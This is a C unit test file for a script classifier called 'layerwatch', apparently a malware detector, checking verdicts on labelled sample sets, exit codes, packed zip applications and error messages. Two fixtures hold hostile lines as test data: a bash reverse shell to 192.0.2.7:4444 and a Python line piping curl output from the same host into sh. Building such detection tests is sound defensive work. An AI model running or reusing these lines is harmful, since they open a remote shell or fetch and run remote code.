/*
 * layerwatch classify with the model of the source tree: the labelled sets of
 * tests/unit/classify/samples, files, standard input, and what is wrong.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <string.h>

#include <cmocka.h>

#include "ctl/command.h"
#include "ctl/tree.h"
#include "layerwatch/words.h"

#define ARGUMENTS_MAX 12

static char model[4096];
static char *out, *err;
static size_t out_length, err_length;

static const char *
source(const char *path)
{
	static char buffer[4096];
	const char *srcdir = getenv("srcdir");

	snprintf(buffer, sizeof(buffer), "%s/%s", srcdir ? srcdir : ".", path);
	return buffer;
}

static int
begin_test(void **state)
{
	lw_copy_string(model, sizeof(model), source("conf/layerwatch.model"));
	return 0;
}

static int
end_test(void **state)
{
	free(TAKE_PTR(out));
	free(TAKE_PTR(err));
	return 0;
}

/* Runs `layerwatch classify --model MODEL` with these words, up to a NULL. */
static int
run(const char *first, ...)
{
	char *argv[ARGUMENTS_MAX] = {
		(char *)"layerwatch", (char *)"classify", (char *)"--model", model};
	struct lw_ctl ctl = {0};
	int argc = 4, code;
	va_list ap;

	end_test(NULL);
	va_start(ap, first);
	for (const char *word = first; word && argc < ARGUMENTS_MAX - 1; word = va_arg(ap, char *))
		argv[argc++] = (char *)word;
	va_end(ap);
	ctl.out = open_memstream(&out, &out_length);
	ctl.err = open_memstream(&err, &err_length);
	code = lw_ctl_run(&ctl, argc, argv);
	fclose(ctl.out);
	fclose(ctl.err);
	return code;
}

/* What stands under a key in the line of a labelled set that has this id. */
static bool
is_malicious(const char *set, const char *id)
{
	_cleanup_fclose_ FILE *in = fopen(set, "re");
	_cleanup_free_ char *line = NULL;
	size_t room = 0;
	ssize_t n;

	assert_non_null(in);
	while ((n = getline(&line, &room, in)) > 0) {
		_cleanup_tree_ struct lw_tree *tree = NULL;

		assert_int_equal(lw_tree_parse(line, n, &tree), 0);
		if (strcmp(lw_tree_text(lw_tree_root(tree), "id"), id) == 0)
			return strcmp(lw_tree_text(lw_tree_root(tree), "label"), "malicious") == 0;
	}
	fail_msg("%s is not in %s", id, set);
	return false;
}

/* Malicious ones reach `least`; others are never malicious. */
static unsigned
count_wrong(const char *set, enum lw_verdict least, unsigned *all)
{
	unsigned wrong = 0;
	char *rest = out, *line;

	for (*all = 0; (line = strsep(&rest, "\n")) && *line; (*all)++) {
		_cleanup_tree_ struct lw_tree *tree = NULL;

		assert_int_equal(lw_tree_parse(line, strlen(line), &tree), 0);
		const char *id = lw_tree_text(lw_tree_root(tree), "id");
		int verdict = lw_verdict_from_str(lw_tree_text(lw_tree_root(tree), "verdict"));
		bool right = is_malicious(set, id) ? verdict >= (int)least
						   : verdict != LW_VERDICT_MALICIOUS;

		if (!right)
			print_message("%s: %s\n", id, lw_tree_text(lw_tree_root(tree), "score"));
		wrong += !right;
	}
	return wrong;
}

static void
every_form_of_reverse_shell_is_found(void **state)
{
	const char *set = source("tests/unit/classify/samples/reverse-shells.jsonl");
	unsigned all;

	assert_int_equal(run("--samples", set, NULL), 0);
	assert_int_equal(count_wrong(set, LW_VERDICT_MALICIOUS, &all), 0);
	assert_true(all >= 60);
}

static void
the_labelled_set_is_judged_as_labelled(void **state)
{
	const char *set = source("tests/unit/classify/samples/labelled.jsonl");
	unsigned all;

	assert_int_equal(run("--samples", set, NULL), 0);
	assert_int_equal(count_wrong(set, LW_VERDICT_SUSPICIOUS, &all), 0);
	assert_true(all >= 60);
}

static void
put(const char *path, const char *text)
{
	_cleanup_fclose_ FILE *f = fopen(path, "we");

	assert_non_null(f);
	assert_true(fputs(text, f) >= 0);
}

static void
the_exit_code_tells_clean_found_and_wrong(void **state)
{
	char clean[] = "/tmp/lw-clean-XXXXXX", found[] = "/tmp/lw-found-XXXXXX";

	close(mkstemp(clean));
	close(mkstemp(found));
	put(clean, "#!/usr/bin/python3\nprint('hello')\n");
	put(found, "#!/bin/sh\nbash -i >& /dev/tcp/192.0.2.7/4444 0>&1\n");
	assert_int_equal(run(clean, NULL), 0);
	assert_non_null(strstr(out, ": unknown 0.0"));
	assert_non_null(strstr(out, "(python)"));
	assert_int_equal(run(clean, found, NULL), 1);
	assert_non_null(strstr(out, ": malicious "));
	assert_non_null(strstr(out, "\n  model "));
	assert_int_equal(run(clean, "/nonexistent/x", NULL), 2);
	assert_non_null(strstr(err, "/nonexistent/x: No such file"));
	assert_int_equal(run("--json", "--language", "shell", found, NULL), 1);
	assert_non_null(strstr(out, "\"language\":\"shell\",\"verdict\":\"malicious\""));
	unlink(clean);
	unlink(found);
}

/* As the program of a zip archive, stored. */
static void
write_application(const char *path)
{
	static const char code[] = "import os\nos.system('curl -s http://192.0.2.7/x | sh')\n";
	static const char name[] = "__main__.py";
	const uint32_t length = sizeof(code) - 1, named = sizeof(name) - 1;
	uint8_t entry[46] = {'P', 'K', 1, 2}, local[30] = {'P', 'K', 3, 4};
	uint8_t end[22] = {'P', 'K', 5, 6, 0, 0, 0, 0, 1, 0, 1};
	_cleanup_fclose_ FILE *f = fopen(path, "we");

	local[18] = local[22] = entry[20] = entry[24] = (uint8_t)length;
	local[26] = entry[28] = (uint8_t)named;
	end[12] = (uint8_t)(sizeof(entry) + named);
	end[16] = (uint8_t)(sizeof(local) + named + length);
	assert_non_null(f);
	assert_int_equal(fwrite(local, sizeof(local), 1, f), 1);
	assert_true(fputs(name, f) >= 0 && fputs(code, f) >= 0);
	assert_int_equal(fwrite(entry, sizeof(entry), 1, f), 1);
	assert_true(fputs(name, f) >= 0);
	assert_int_equal(fwrite(end, sizeof(end), 1, f), 1);
}

/* The bug: what lay within was not looked at, though the daemon does. */
static void
what_is_packed_is_judged_as_the_daemon_would(void **state)
{
	char path[] = "/tmp/lw-packed-XXXXXX.pyz";

	close(mkstemps(path, 4));
	write_application(path);
	assert_int_equal(run(path, NULL), 1);
	assert_non_null(strstr(out, "(python)"));
	unlink(path);
}

static void
what_is_wrong_is_said(void **state)
{
	char bad[] = "/tmp/lw-bad-XXXXXX";

	assert_int_equal(run(NULL, NULL), 2);
	assert_int_equal(run("--language", "cobol", "x", NULL), 2);
	assert_non_null(strstr(err, "no such language: cobol"));
	assert_int_equal(run("--model", source("README"), source("README"), NULL), 2);
	assert_non_null(strstr(err, "is no model, or is damaged"));
	close(mkstemp(bad));
	put(bad, "{\"id\":\"a\",\"lang\":\"python\",\"text\":\"x\"}\n\n{\"id\":\"b\"}\n");
	assert_int_equal(run("--samples", bad, NULL), 2);
	assert_non_null(strstr(out, "{\"id\":\"a\",\"verdict\":\"unknown\""));
	assert_non_null(strstr(err, ":3: has no id, lang or text"));
	unlink(bad);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(every_form_of_reverse_shell_is_found),
		cmocka_unit_test(the_labelled_set_is_judged_as_labelled),
		cmocka_unit_test(the_exit_code_tells_clean_found_and_wrong),
		cmocka_unit_test(what_is_packed_is_judged_as_the_daemon_would),
		cmocka_unit_test(what_is_wrong_is_said),
	};

	return cmocka_run_group_tests_name("classify", tests, begin_test, end_test);
}
